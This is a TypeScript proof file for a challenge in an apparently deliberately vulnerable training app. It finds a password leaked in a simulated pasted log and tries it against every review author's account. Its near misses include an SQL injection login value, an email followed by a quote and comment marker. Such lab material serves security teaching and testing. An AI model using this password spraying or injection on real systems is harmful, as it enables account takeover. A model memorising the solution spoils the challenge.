import { type Attacker, prove } from '@fruit/challenge-kit/proof'
import { challenge } from './challenge.ts'
import { PASSWORD } from './props.ts'

const signIn = (attacker: Attacker, email: string, password: string) =>
  attacker.post('/rest/user/login', { email, password })

const ownerOf = ({ domain }: Attacker) => `J12934@${domain}`

/** Returns the e-mail of every author of a review, as shown on the product pages. */
async function authors(attacker: Attacker): Promise<Set<string>> {
  const found = new Set<string>()
  const products: readonly { id: number }[] = (await attacker.get('/rest/products/search?q=')).json().data
  for (const { id } of products) {
    const reviews: readonly { author: string }[] = (await attacker.get(`/rest/products/${id}/reviews`)).json().data
    for (const { author } of reviews) found.add(author)
  }
  return found
}

/** Returns the password in the pasted log. A question in a forum links to it. */
async function passwordInLog(attacker: Attacker): Promise<string> {
  const hits = await attacker.get('/internet?q=access%20log%20password')
  const page = /href="(\/internet\/askhedge\.example\/[^"]+)"/.exec(hits.text)?.[1] ?? ''
  const [, paste = ''] = /href="\.\.\/\.\.\/(pastebowl\.example\/[^"]+)"/.exec((await attacker.get(page)).text) ?? []
  const log = (await attacker.get(`/internet/${paste}`)).text
  const [, query = ''] = /change-password\?(\S+)/.exec(log) ?? []
  return new URLSearchParams(query).get('current') ?? ''
}

export const proof = prove(challenge, {
  exploit: async (attacker) => {
    const password = await passwordInLog(attacker)
    // The log does not name the account, so the password is tried with each author.
    for (const email of await authors(attacker)) if ((await signIn(attacker, email, password)).status === 200) return
  },
  spellings: {
    'for its owner alone': (attacker) => signIn(attacker, ownerOf(attacker), PASSWORD),
    'with signs escaped, as JSON allows': (attacker) =>
      attacker.post(
        '/rest/user/login',
        `{"email":"${ownerOf(attacker)}","password":"${PASSWORD.replace('§', '\\u00a7')}"}`,
        { headers: { 'content-type': 'application/json' } },
      ),
    'after the new ones of the log': async (attacker) => {
      for (const guess of ['th3.N1ght&th3.W4sp', 'th3.N1ght&th3.W4psp', PASSWORD])
        await signIn(attacker, ownerOf(attacker), guess)
    },
  },
  nearMisses: {
    'reading the question and the log': passwordInLog,
    'the password as the log has it, encoded': (attacker) =>
      signIn(attacker, ownerOf(attacker), encodeURIComponent(PASSWORD)),
    'the password up to the sign that ends a parameter': (attacker) =>
      signIn(attacker, ownerOf(attacker), PASSWORD.split('&')[0]!),
    'the new password, which was never taken': (attacker) => signIn(attacker, ownerOf(attacker), 'th3.N1ght&th3.W4sp'),
    'the password read as another alphabet': (attacker) =>
      signIn(attacker, ownerOf(attacker), Buffer.from(PASSWORD).toString('latin1')),
    'the password at another account': (attacker) => signIn(attacker, `admin@${attacker.domain}`, PASSWORD),
    'the account entered by an injection, which never looks at the password': (attacker) =>
      signIn(attacker, `${ownerOf(attacker)}'--`, PASSWORD),
  },
})
